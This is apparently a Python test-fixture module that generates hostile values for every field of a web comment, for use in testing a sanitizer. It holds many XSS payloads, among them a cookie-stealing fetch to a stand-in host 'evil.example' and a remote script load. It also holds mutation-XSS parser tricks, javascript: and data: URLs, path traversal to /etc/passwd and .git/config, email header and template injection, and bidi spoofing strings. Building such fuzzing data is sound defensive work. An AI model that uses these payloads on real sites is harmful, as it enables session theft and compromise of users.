"""Hostile values for every field of a comment, made by combining shapes: what to run, where to hide it, how
to disguise it. Each field has its own list, and all of them are harmless text as long as nobody runs them."""

from __future__ import annotations

from itertools import product

SCRIPTS = ("alert(1)", "fetch('//evil.example/'+document.cookie)", "location=name")

SCHEMES = (
    "javascript:{}",
    "JaVaScRiPt:{}",
    " javascript:{}",
    "\x01javascript:{}",
    "java\nscript:{}",
    "java\tscript:{}",
    "java&#10;script:{}",
    "&#106;avascript:{}",
    "&#x6A;avascript&colon;{}",
    "javascript&#58;{}",
    "vbscript:{}",
    "data:text/html,<script>{}</script>",
    "data:text/html;base64,PHNjcmlwdD4=",
    "blob:https://example.com/{}",
    "file:///etc/passwd",
    "feed:javascript:{}",
    "view-source:javascript:{}",
    "//evil.example/{}",
    "/\\evil.example/{}",
    "\\\\evil.example\\{}",
    "https:evil.example",
    "http://user:secret@bank.example/",
    "https://bank.example\\@evil.example/",
    "https://bank.example%00.evil.example/",
    "\u2028javascript:{}",
    "\u202ejavascript:{}",
    "https://ex\u202eample.org/",
)

HOLDERS = (
    '<a href="{}">x</a>',
    "<a href='{}'>x</a>",
    "<a href={}>x</a>",
    '<A HREF = "{}" >x</A>',
    '<a/href="{}">x</a>',
    '<a title="b" href="{}" href="https://good.example/">x</a>',
    '<img src="{}">',
    '<iframe src="{}"></iframe>',
    '<form action="{}"><button formaction="{}">go</button></form>',
    '<object data="{}"></object>',
    '<embed src="{}">',
    '<blockquote cite="{}">x</blockquote>',
    '<svg><a xlink:href="{}"><text>x</text></a></svg>',
    '<math href="{}">x</math>',
    '<link rel=stylesheet href="{}">',
    '<meta http-equiv=refresh content="0;url={}">',
    '<base href="{}">',
)

HANDLERS = (
    "onerror",
    "onload",
    "onclick",
    "ONMOUSEOVER",
    "onfocus autofocus onblur",
    "ontoggle",
    "onpointerrawupdate",
)

BEARERS = (
    '<p {}="{}">x</p>',
    "<b {}='{}'>x</b>",
    "<a href=https://good.example/ {}={}>x</a>",
    '<img src=x {}="{}">',
    '<svg {}="{}"><path d="M0 0"/></svg>',
    '<details open {}="{}"><summary>x</summary></details>',
    '<body {}="{}">',
    '<video src=x {}="{}"></video>',
    '<em/{}="{}">x</em>',
    '<code x="y"{}="{}">x</code>',
)

STRUCTURES = (
    "<script>{}</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script\n>{}</script\n>",
    "<scr<script></script>ipt>{}</script>",
    "<script><!--<script>{}</script>-->{}</script>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style><img src=x onerror={}></style>",
    '<noscript><p title="</noscript><img src=x onerror={}>"></noscript>',
    '<textarea><p title="</textarea><img src=x onerror={}>"></textarea>',
    '<title><b title="</title><img src=x onerror={}>"></title>',
    '<xmp><p title="</xmp><img src=x onerror={}>"></xmp>',
    "<plaintext><img src=x onerror={}>",
    "<!--><img src=x onerror={}>-->",
    "<!-- --!><img src=x onerror={}>-->",
    "<![CDATA[<img src=x onerror={}>]]>",
    '<?xml version="1.0"?><img src=x onerror={}>',
    "<!DOCTYPE html [<!ENTITY x '{}'>]>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={}&gt;">',
    '<svg><style><a title="</style><img src=x onerror={}>"></style></svg>',
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={}>",
    '<table><td><a href=https://good.example/><table><td><a href="javascript:{}">x',
    "<template><img src=x onerror={}></template>",
    "<select><option><style></option></select><img src=x onerror={}></style>",
    '<p id=comments class="admin" style="position:fixed;inset:0">x</p>',
    "<a name=getElementById><a id=location>x",
    "<b><p></b><i><p></i>" * 5 + "<img src=x onerror={}>",
    "<blockquote>" * 200 + "{}",
    "<ul><li>" * 200 + "{}",
    '<a href="https://good.example/" <img src=x onerror={}>>x</a>',
    '<a href="https://good.example/"title=\'"><img src=x onerror={}>\'>x</a>',
    "<a href=https://good.example/`onmouseover={}>x</a>",
    '<img src="`><script>{}</script>">',
    '<img alt="<script>{}</script>" src=x>',
    '<abbr title="&quot;><script>{}</script>">x</abbr>',
    "&lt;script&gt;{}&lt;/script&gt;",
    "&amp;lt;script&amp;gt;{}",
    "\x00<\x00script>{}</script>",
    "<scr\x00ipt>{}</script>",
    "\ufeff<script>{}</script>",
    "<ſcript>{}</ſcript>",
    "\uff1cscript\uff1e{}\uff1c/script\uff1e",
    "]]><script>{}</script>",
    "</div></article></body><script>{}</script>",
    "{{{{ config }}}} {{% raw %}}{}",
    "&#60;script&#62;{}&#60;/script&#62;",
    "&#x202e;gnp.exe {} &#1;&#8;&#xFFFF;",
    "<p>\r\n<br\r/>{}\r",
    "<" * 500 + "{}" + ">" * 500,
    "<a " * 300 + "{}",
    "&" * 500 + "{}",
)


def _filled(shape: str, script: str) -> str:
    return shape.format(script) if "{{" in shape else shape.replace("{}", script)


BODIES: tuple[str, ...] = tuple(
    dict.fromkeys(
        [
            *(
                holder.replace("{}", _filled(scheme, SCRIPTS[n % len(SCRIPTS)]))
                for n, (holder, scheme) in enumerate(product(HOLDERS, SCHEMES))
            ),
            *(
                bearer.format(handler, SCRIPTS[n % len(SCRIPTS)])
                for n, (bearer, handler) in enumerate(product(BEARERS, HANDLERS))
            ),
            *(_filled(shape, script) for shape, script in product(STRUCTURES, SCRIPTS)),
        ]
    )
)

NAMES: tuple[str, ...] = tuple(
    dict.fromkeys(
        [
            *(_filled(shape, script) for shape, script in product(STRUCTURES[:12], SCRIPTS)),
            '"><script>alert(1)</script>',
            "' onmouseover='alert(1)",
            "\u202egnirts\u202c",
            "\u2066isolate",
            "A\x00d\x08a",
            "Ada\nBcc: all@example.com",
            "Ada\u2028Lovelace",
            "a" * 10_000,
            "e" + "\u0301" * 5_000,
            "   ",
            "\ud800".encode("utf-8", "replace").decode(),
            "{{ site.secret }}",
        ]
    )
)

URLS: tuple[str, ...] = tuple(
    dict.fromkeys(
        [
            *(_filled(scheme, script) for scheme, script in product(SCHEMES, SCRIPTS)),
            "https://",
            "https://..",
            "https://-a.example/",
            "https://a_.b-.example/",
            "https://[::1",
            "https://[::1]x/",
            "https://1.2.3.4:99999/",
            'https://example.org/"><script>alert(1)</script>',
            "https://example.org/' onclick='alert(1)",
            "https://example.org/\x00",
            "https://example.org/ \n x",
            "https://℀.example/",
            "https://example。org／x",
            "https://exa mple.org/",
            "https://" + "a" * 5_000 + ".example/",
            "https://" + "a." * 2_000 + "example/",
            'example.org" onload=alert(1)',
            "john@example.com",
            "undefined",
            "null",
            "#",
            "/relative",
            "https://%65xample.org/",
            "https:///example.org/",
            "https://@example.org/",
            "https://:80/",
        ]
    )
)

AVATARS: tuple[str, ...] = (
    *URLS,
    "/../../etc/passwd",
    "/avatars/%2e%2e/x.png",
    "/avatars/..\\x.png",
    "//evil.example/x.png",
    '/x.png" onerror="alert(1)',
    "/x.png?track=1",
    "/.git/config",
    "avatars/x.png",
    "data:image/svg+xml,<svg onload=alert(1)>",
)

IDS: tuple[str, ...] = (
    '"><script>alert(1)</script>',
    "wp:1 onclick=alert(1)",
    "../../../etc/passwd",
    "a\x00b",
    "\u202ex",
    "日本語",
    "   x   y   ",
    "__proto__",
    "%3Cscript%3E",
    "javascript:alert(1)",
    "x" * 299,
)

PAGES: tuple[str, ...] = (
    "../../../etc/passwd",
    "/..%2f..%2fetc/passwd",
    "//evil.example/posts/x/",
    "https://evil.example\\@example.com/x",
    "javascript:alert(1)",
    "/<script>alert(1)</script>/",
    "/%00/%0a/%ff/%",
    "/" * 2_000,
    "/?" + "&" * 1_000,
    "https://" + "[" * 500,
    "/" + "%25" * 500,
    "\u202e/x/",
    "C:\\windows\\x",
    "#",
    "?",
    "https://",
)

DATES: tuple[object, ...] = (
    "",
    "yesterday",
    "2024-02-30T00:00:00Z",
    "0000-00-00 00:00:00",
    "0001-01-01T00:00:00+14:00",
    "9999-12-31T23:59:59-14:00",
    "2024-01-01T25:00:00Z",
    "2024-01-01T00:00:00+99:99",
    "99999999999999-01-01",
    "-2024-01-01",
    "٢٠٢٤-٠١-٠١",
    "2024-01-01T00:00:00Z<script>alert(1)</script>",
    "1" * 5_000,
    0,
    -1,
    1e300,
    True,
    [],
    {},
)

WRONG: tuple[object, ...] = (
    None,
    True,
    False,
    0,
    -1,
    3.5,
    2**70,
    "",
    "x",
    [],
    [1],
    {},
    {"a": {"b": []}},
    [[[]]],
)
"""Values of every JSON type, to be put where another one belongs."""
